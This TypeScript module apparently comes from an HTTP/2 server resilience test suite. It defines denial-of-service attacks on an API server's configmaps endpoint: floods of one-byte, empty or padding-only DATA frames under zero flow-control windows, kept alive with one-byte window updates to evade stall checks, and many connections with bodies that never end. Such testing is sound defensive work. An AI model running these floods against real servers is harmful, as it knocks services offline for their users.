import { Flag, frame, headersFrames, hpack, INITIAL_WINDOW, requestHeaders, Type, windowUpdate } from "../frames.ts";
import { openMany } from "../raw-connection.ts";
import { openRawHttp2, type RawHttp2 } from "../raw-http2.ts";
import type { Row, Target } from "../row.ts";

const STREAMS = 16;
const CONNECTIONS = 11;
const POST = hpack(
  requestHeaders("POST", "/api/v1/namespaces/tenant/configmaps", [["content-type", "application/json"]]),
);
/** The server's check for stalled streams must not accept windows that grow by one byte. */
const KEEP_ALIVE_MS = 15_000;

interface Flood {
  readonly frameOf: (stream: number) => Buffer;
  readonly windows: readonly (readonly [number, number])[];
  readonly bytes: number;
  readonly more?: readonly (readonly [string, string])[];
}

/** Sends the frame on open streams until enough bytes are sent or the time is over; reopens what the server closed. */
async function floodBodies(target: Target, flood: Flood): Promise<readonly string[]> {
  let sent = 0;
  const limit = flood.bytes * target.scale;
  const work = async (): Promise<void> => {
    while (sent < limit && target.leftMs() > 0) {
      const client = await openStreams(target, flood);
      const chunk = Buffer.concat(
        Array.from({ length: STREAMS }, (_, i) => flood.frameOf(2 * i + 1)).flatMap((one) => Array(100).fill(one)),
      );
      let keptAliveMs = Date.now();
      while (!client.isCut && sent < limit && target.leftMs() > 0) {
        await client.send(chunk);
        sent += chunk.byteLength;
        if (Date.now() - keptAliveMs > KEEP_ALIVE_MS) {
          keptAliveMs = Date.now();
          await client.send(Buffer.concat(Array.from({ length: STREAMS }, (_, i) => windowUpdate(2 * i + 1, 1))));
        }
      }
      client.connection.destroy();
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, work));
  return [];
}

async function openStreams(target: Target, { windows, more = [] }: Flood): Promise<RawHttp2> {
  const client = await openRawHttp2(target, { settings: windows });
  const block = more.length === 0 ? POST : Buffer.concat([POST, hpack(more)]);
  const heads = Array.from({ length: STREAMS }, (_, i) => headersFrames({ stream: 2 * i + 1, block }));
  await client.send(Buffer.concat(heads));
  return client;
}

const NO_WINDOW = [[INITIAL_WINDOW, 0]] as const;
const oneByte = (stream: number) => frame({ type: Type.data, stream, payload: Buffer.of(0x20) });
const empty = (stream: number) => frame({ type: Type.data, stream });
const padded = (stream: number) =>
  frame({ type: Type.data, flags: Flag.padded, stream, payload: Buffer.alloc(256).fill(255, 0, 1) });

/** Sends bodies of 250 streams that never end, each as long as its window. */
async function fillWindows(target: Target, more: readonly (readonly [string, string])[]): Promise<readonly string[]> {
  const block = Buffer.concat([POST, hpack(more)]);
  const clients = await openMany(Math.ceil(20 * target.scale), () => openRawHttp2(target, { settings: NO_WINDOW }));
  for (const client of clients) {
    for (let stream = 1; stream < 500 && target.leftMs() > 0; stream += 2) {
      await client.send(headersFrames({ stream, block }));
      await client.send(
        Buffer.concat(Array(16).fill(frame({ type: Type.data, stream, payload: Buffer.alloc(16_000, 0x20) }))),
        100,
      );
    }
  }
  for (const client of clients) {
    client.connection.destroy();
  }
  return [];
}

export const http2BodyRows: readonly Row[] = [
  {
    name: "h2-one-byte-data-window-0",
    identity: "anonymous",
    sends: "HTTP/2: 11 connections, send window 0, POST on 16 streams, DATA frames of 1 byte, 1 GB in all",
    seconds: 45,
    isShort: true,
    attack: (target) => floodBodies(target, { frameOf: oneByte, windows: NO_WINDOW, bytes: 1e9 }),
  },
  {
    name: "h2-one-byte-data",
    identity: "anonymous",
    sends: "HTTP/2: the same with open windows",
    attack: (target) => floodBodies(target, { frameOf: oneByte, windows: [], bytes: 4e8 }),
  },
  {
    name: "h2-one-byte-data-with-token",
    identity: "edit",
    sends: "HTTP/2: the same with a token that may create",
    attack: (target) =>
      floodBodies(target, {
        frameOf: oneByte,
        windows: NO_WINDOW,
        bytes: 4e8,
        more: [["authorization", `Bearer ${target.tokens.edit}`]],
      }),
  },
  {
    name: "h2-empty-data",
    identity: "anonymous",
    sends: "HTTP/2: DATA frames without a byte, send window 0",
    attack: (target) => floodBodies(target, { frameOf: empty, windows: NO_WINDOW, bytes: 2e8 }),
  },
  {
    name: "h2-padding-only-data",
    identity: "anonymous",
    sends: "HTTP/2: DATA frames of 255 bytes of padding, send window 0",
    attack: (target) => floodBodies(target, { frameOf: padded, windows: NO_WINDOW, bytes: 4e8 }),
  },
  {
    name: "h2-bodies-without-end",
    identity: "anonymous",
    sends: "HTTP/2: 20 connections, 250 streams each, bodies that fill every window and do not end",
    attack: (target) => fillWindows(target, []),
  },
  {
    name: "h2-bodies-without-end-with-token",
    identity: "edit",
    sends: "HTTP/2: the same with a token that may create",
    attack: (target) => fillWindows(target, [["authorization", `Bearer ${target.tokens.edit}`]]),
  },
];
